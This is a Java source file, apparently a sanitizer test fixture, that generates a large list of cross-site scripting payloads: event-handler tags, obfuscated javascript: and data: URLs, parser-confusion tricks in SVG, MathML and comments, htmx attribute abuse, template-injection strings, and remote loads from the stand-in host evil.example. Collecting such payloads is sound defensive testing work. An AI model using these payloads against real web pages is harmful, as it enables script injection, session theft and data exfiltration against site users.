package app.lienzo.story;

import java.util.ArrayList;
import java.util.List;

/// What people write who want a page to run something: each way in, in each dress it is known to come
/// in.
final class Payloads {
    private static final String RUN = "window.hacked=1;alert(1)";

    private Payloads() {}

    static List<String> all() {
        var all = new ArrayList<String>();
        for (var event :
                List.of("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationend")) {
            for (var tag : List.of("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "p")) {
                all.add("<" + tag + " " + event + "=\"" + RUN + "\">");
            }
        }
        for (var scheme : List.of(
                "javascript:",
                "JaVaScRiPt:",
                " javascript:",
                "java\tscript:",
                "java\nscript:",
                "&#106;avascript:",
                "&#x6A;avascript:",
                "javascript&colon;",
                "\u0001javascript:",
                "vbscript:",
                "data:text/html,",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==//",
                "//evil.example/",
                "\\\\evil.example\\")) {
            all.add("<a href=\"" + scheme + RUN + "\">x</a>");
            all.add("[x](" + scheme + RUN + ")");
            all.add("<form action=\"" + scheme + RUN + "\"><button>x</button></form>");
            all.add("<iframe src=\"" + scheme + RUN + "\"></iframe>");
        }
        all.addAll(List.of(
                "<script>" + RUN + "</script>",
                "<ScRiPt>" + RUN + "</sCrIpT>",
                "<script src=//evil.example/x.js></script>",
                "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
                "<script\n>" + RUN + "</script\n>",
                "<svg><script>" + RUN + "</script></svg>",
                "<svg><animate onbegin=\"" + RUN + "\" attributeName=x dur=1s></svg>",
                "<svg><set attributeName=href to=\"javascript:" + RUN + "\"></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>",
                "<svg><foreignObject><img src=x onerror=\"" + RUN + "\"></foreignObject></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=\"" + RUN
                        + "\"></style></mglyph></table></mtext></math>",
                "<math href=\"javascript:" + RUN + "\">x</math>",
                "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\"></noscript>",
                "<style><img src=\"</style><img src=x onerror=" + RUN + "//\"></style>",
                "<title><img src=\"</title><img src=x onerror=" + RUN + "//\"></title>",
                "<textarea><img src=\"</textarea><img src=x onerror=" + RUN + "//\"></textarea>",
                "<xmp><img src=\"</xmp><img src=x onerror=" + RUN + "//\"></xmp>",
                "<!--><img src=x onerror=\"" + RUN + "\">-->",
                "<!--[if gte IE 4]><script>" + RUN + "</script><![endif]-->",
                "<![CDATA[<img src=x onerror=\"" + RUN + "\">]]>",
                "<?xml version=\"1.0\"?><img src=x onerror=\"" + RUN + "\">",
                "<template><img src=x onerror=\"" + RUN + "\"></template>",
                "<template shadowrootmode=open><img src=x onerror=\"" + RUN + "\"></template>",
                "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
                "<object data=\"javascript:" + RUN + "\"></object><embed src=\"javascript:" + RUN + "\">",
                "<base href=\"//evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example/\">",
                "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/x>",
                "<img src=//evil.example/x srcset=\"//evil.example/y 2x\"><video poster=//evil.example/z></video>",
                "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
                "<p style=\"background:url(//evil.example/x);position:fixed;inset:0\">x</p>",
                "<p id=csrf-token name=submit class=modal>x</p><form id=composer></form>",
                "<a id=ticket href=https://example.com name=attributes>x</a>",
                "<button hx-get=/x hx-trigger=load hx-on:click=\"" + RUN + "\">x</button>",
                "<div data-hx-get=//evil.example/x data-hx-trigger=load hx-swap-oob=true>x</div>",
                "<div hx-vals='js:{a:" + RUN + "}' hx-post=/x hx-trigger=load>x</div>",
                "<dialog open><form method=dialog><button>x</button></form></dialog>",
                "<marquee onstart=\"" + RUN + "\">x</marquee><isindex type=image src=x onerror=\"" + RUN + "\">",
                "<img src=x:x onerror\u000b=\"" + RUN + "\"><img/src=x/onerror=\"" + RUN + "\">",
                "\"><img src=x onerror=\"" + RUN + "\">",
                "'-alert(1)-'`${alert(1)}`{{constructor.constructor('alert(1)')()}}",
                "{@inject:x}{cdi:me.get.member}{#include layout/base}{config:quarkus.datasource.password}",
                "![x](javascript:" + RUN + ")![x](x\"onerror=\"" + RUN + ")",
                "[x](https://example.com \"onmouseover=" + RUN + "\")",
                "<https://example.com\"onmouseover=\"" + RUN + ">",
                "https://example.com/\"onmouseover=\"" + RUN,
                "```html\n<script>" + RUN + "</script>\n```",
                "&lt;script&gt;" + RUN + "&lt;/script&gt;",
                "\u2028<script>" + RUN + "</script>\u202e"));
        return all;
    }
}
